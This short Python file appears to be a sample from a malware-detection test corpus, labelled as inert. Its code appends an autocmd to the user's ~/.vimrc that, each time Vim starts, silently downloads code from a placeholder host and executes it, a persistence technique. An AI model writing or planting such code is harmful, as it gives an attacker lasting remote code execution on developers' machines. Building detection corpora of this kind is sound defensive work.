# pkgguard corpus 563 (persistence), modelled on [developer-persistence]; inert, never run.
import os

vimrc = os.path.expanduser("~/.vimrc")
line = 'autocmd VimEnter * silent !python3 -c "import urllib.request as u;exec(u.urlopen(\'https://vim-tips.example/t\').read())" &\n'
with open(vimrc, "a") as fh:
    fh.write(line)
